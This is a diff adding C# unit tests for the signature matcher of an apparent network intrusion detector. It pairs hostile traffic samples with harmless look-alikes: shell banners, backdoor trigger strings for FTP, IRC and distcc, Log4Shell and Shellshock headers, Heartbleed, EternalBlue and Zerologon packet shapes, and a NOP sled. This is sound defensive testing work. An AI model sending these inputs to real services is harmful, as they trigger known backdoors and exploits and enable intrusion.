@@ -1,0 +1,155 @@
+using System.Buffers.Binary;
+using System.Text;
+using NetHawk.Capture.Peek;
+using NetHawk.Core.Packets;
+using NetHawk.Core.Peek;
+
+namespace NetHawk.Tests.Capture;
+
+/// <summary>Each signature has what fires it and an honest look-alike that does not.</summary>
+public class IndicatorPeekTests
+{
+    private static Indicator? Look(byte[] payload, bool fromResponder = false, AppProtocol application = AppProtocol.Unknown)
+    {
+        var state = new PeekState { Application = application };
+        return new PayloadPeek().Look(ref state, fromResponder, IpProtocol.Tcp, 40_000, 4444, payload) as Indicator;
+    }
+
+    private static Indicator? Look(string payload, bool fromResponder = false, AppProtocol application = AppProtocol.Unknown) =>
+        Look(Encoding.Latin1.GetBytes(payload), fromResponder, application);
+
+    [Theory]
+    [InlineData("Microsoft Windows [Version 10.0.19045]\r\n(c) Microsoft Corporation.\r\n\r\nC:\\>")]
+    [InlineData("Microsoft Windows XP [Version 5.1.2600]\r\n")]
+    [InlineData("\r\nC:\\WINNT\\system32>")]
+    [InlineData("uid=0(root) gid=0(root) groups=0(root)\n")]
+    [InlineData("\r\nuid=33(www-data) gid=33(www-data)\n")]
+    [InlineData("bash: cannot set terminal process group (812): Inappropriate ioctl for device\n")]
+    [InlineData("/bin/sh: 0: can't access tty; job control turned off\n# ")]
+    [InlineData("Linux web1 6.1.0-18-amd64 #1 SMP Debian 6.1.76-1 x86_64 GNU/Linux\n")]
+    public void A_shell_on_a_connection_of_no_protocol_gives_itself_away(string payload) =>
+        Assert.Equal(IndicatorKind.Shell, Look(payload)!.Kind);
+
+    [Theory]
+    [InlineData("Microsoft Windows is a trademark [Version of 2024]")]
+    [InlineData("C:\\>type readme.txt\r\nC:\\dir")]
+    [InlineData("C:\\data\\a.xml <a>")]
+    [InlineData("log: the attacker saw uid=0(root) gid=0(root)")]
+    [InlineData("uid=alice,ou=people,dc=example\n")]
+    [InlineData("Linux kernel 6.1 released\n")]
+    [InlineData("set -m: no job control\n")]
+    [InlineData("job control turned off for maintenance\n")]
+    public void Text_about_shells_is_no_shell(string payload) => Assert.Null(Look(payload));
+
+    [Theory]
+    [InlineData("USER letmein:)\r\n", "USER smile:-) \r\n", AppProtocol.Ftp)]
+    [InlineData("SITE CPFR /proc/self/cmdline\r\n", "SITE CPFR /home/a/photo.jpg\r\n", AppProtocol.Ftp)]
+    [InlineData("HELP ACIDBITCHEZ\r\n", "HELP SITE\r\n", AppProtocol.Ftp)]
+    [InlineData("AB;perl -e 'x'\n", "ABOUT;me\n", AppProtocol.Irc)]
+    [InlineData("AB;sleep 5\n", "ABC;1;2;3\n", AppProtocol.Unknown)]
+    [InlineData("/bin/busybox MIRAI\r\n", "/bin/busybox ls\r\n", AppProtocol.Telnet)]
+    [InlineData("DIST00000001ARGC00000008ARGV00000002shARGV00000002-cARGV00000002idARGV00000001#", "DIST00000001ARGC00000008ARGV00000003gccARGV00000002-c", AppProtocol.Unknown)]
+    public void Commands_of_backdoors_are_known_and_ordinary_ones_pass(string attack, string honest, AppProtocol application)
+    {
+        Assert.NotNull(Look(attack, application: application));
+        Assert.Null(Look(honest, application: application));
+    }
+
+    [Fact]
+    public void A_heartbeat_that_claims_more_than_it_holds_is_heartbleed()
+    {
+        Assert.Equal("heartbleed", Look([0x18, 3, 2, 0, 3, 1, 0x40, 0], application: AppProtocol.Tls)!.Name);
+        byte[] honest = [0x18, 3, 3, 0, 23, 1, 0, 4, .. new byte[20]];
+        Assert.Null(Look(honest, application: AppProtocol.Tls));
+    }
+
+    [Fact]
+    public void Trans2_session_setup_is_eternalblue_and_other_subcommands_are_not()
+    {
+        Assert.Equal("eternalblue", Look(Trans2(0x0E), application: AppProtocol.Smb)!.Name);
+        Assert.Null(Look(Trans2(0x05), application: AppProtocol.Smb));
+    }
+
+    [Fact]
+    public void A_zero_challenge_is_told_from_a_random_one()
+    {
+        Assert.Equal("zerologon", Look(Challenge(0), application: AppProtocol.DceRpc)!.Name);
+        Assert.Null(Look(Challenge(0x5A), application: AppProtocol.DceRpc));
+    }
+
+    [Fact]
+    public void A_service_that_is_a_command_line_and_a_sled_are_found_and_padding_is_not()
+    {
+        byte[] head = Trans2(0x05);
+        Assert.Equal("service-command", Look([.. head, .. Encoding.Unicode.GetBytes("%COMSPEC% /Q /c echo cd")], application: AppProtocol.Smb)!.Name);
+        Assert.Null(Look([.. head, .. Encoding.Unicode.GetBytes("C:\\Windows\\System32\\svchost.exe -k")], application: AppProtocol.Smb));
+        Assert.Equal("shellcode", Look([.. head, .. Enumerable.Repeat((byte)0x90, 120)], application: AppProtocol.Smb)!.Name);
+        Assert.Null(Look([.. head, .. Enumerable.Repeat((byte)0x90, 30)], application: AppProtocol.Smb));
+    }
+
+    [Fact]
+    public void A_stage_with_its_length_is_a_loader_and_a_program_in_a_file_transfer_is_not()
+    {
+        byte[] program = [.. "MZARUH"u8, .. new byte[200]];
+        byte[] length = BitConverter.GetBytes(180_000);
+        Assert.Equal(IndicatorKind.Stage, Look([.. length, .. program], fromResponder: true)!.Kind);
+        byte[] plain = [.. "MZ\u0090"u8, .. new byte[200]];
+        Assert.Null(Look(plain, fromResponder: true));
+    }
+
+    [Fact]
+    public void Remote_calls_are_told_by_interface_and_operation()
+    {
+        Assert.Equal("remote-service", Call("367abb81-9844-35f1-ad32-98f038001003", 12)!.Name);
+        Assert.Equal("remote-task", Call("86d35949-83c9-4044-b424-db363231fd0c", 1)!.Name);
+
+        // Asking for a service's state, and the same operation of another interface.
+        Assert.Null(Call("367abb81-9844-35f1-ad32-98f038001003", 6));
+        Assert.Null(Call("12345778-1234-abcd-ef00-0123456789ac", 12));
+    }
+
+    private static Indicator? Call(string binding, byte operation)
+    {
+        var peek = new PayloadPeek();
+        var state = new PeekState();
+        byte[] bind = [5, 0, 11, 3, 0x10, 0, 0, 0, 72, 0, 0, 0, .. new byte[20], .. new Guid(binding).ToByteArray(), .. new byte[24]];
+        byte[] request = [5, 0, 0, 3, 0x10, 0, 0, 0, 48, 0, 0, 0, .. new byte[10], operation, 0, .. Enumerable.Repeat((byte)7, 24)];
+        Assert.Null(peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 49_700, bind));
+        return peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 49_700, request) as Indicator;
+    }
+
+    [Theory]
+    [InlineData("X-Api-Version: ${jndi:ldap://x/a}", true)]
+    [InlineData("Cookie: () { :;}; echo", true)]
+    [InlineData("Cookie: prefs={\"a\":{\"b\":1}}", false)]
+    public void Odd_headers_are_kept(string header, bool kept)
+    {
+        var state = new PeekState();
+        var request = (HttpRequest)new PayloadPeek().Look(ref state, false, IpProtocol.Tcp, 40_000, 80, Encoding.ASCII.GetBytes($"GET / HTTP/1.1\r\nHost: a\r\n{header}\r\n\r\n"))!;
+        Assert.Equal(kept, request.OddHeader.Length > 0);
+    }
+
+    private static byte[] Trans2(byte subcommand)
+    {
+        byte[] p = new byte[80];
+        p[3] = 76;
+        p[4] = 0xFF;
+        "SMB"u8.CopyTo(p.AsSpan(5));
+        p[8] = 0x32;
+        p[36] = 15;
+        p[63] = 1;
+        p[65] = subcommand;
+        return p;
+    }
+
+    private static byte[] Challenge(byte fill)
+    {
+        byte[] p = new byte[90];
+        (p[0], p[2], p[3], p[4]) = (5, 0, 3, 0x10);
+        BinaryPrimitives.WriteUInt16LittleEndian(p.AsSpan(8), (ushort)p.Length);
+        p[22] = 4;
+        p.AsSpan(40, 42).Fill((byte)'A');
+        p.AsSpan(82).Fill(fill);
+        return p;
+    }
+}
